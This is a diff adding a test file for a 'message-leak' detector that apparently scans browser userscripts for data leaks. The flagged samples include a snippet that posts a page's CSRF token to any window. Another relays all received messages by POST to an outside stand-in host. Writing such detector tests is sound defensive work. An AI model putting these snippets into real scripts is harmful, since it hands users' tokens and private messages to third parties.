@@ -1,0 +1,39 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { messageLeak } from "./message-leak.ts";
+
+describe("message-leak", () => {
+	test.each([
+		[
+			"a token for any window",
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`parent.postMessage({t:document.querySelector("meta[name=csrf-token]").content},"*")`,
+			),
+		],
+		[
+			"messages of others, passed on",
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`addEventListener("message",e=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(e.data)}))`,
+			),
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(messageLeak, code)).toEqual(expected);
+	});
+
+	test.each([
+		["a message without secrets", userscript(["match https://shop.example/*"], `parent.postMessage({ready:true},"*")`)],
+		[
+			"a token for the site itself",
+			userscript(
+				["match https://shop.example/*"],
+				`parent.postMessage(document.querySelector("meta[name=csrf-token]").content,location.origin)`,
+			),
+		],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(messageLeak, code)).toEqual([]);
+	});
+});
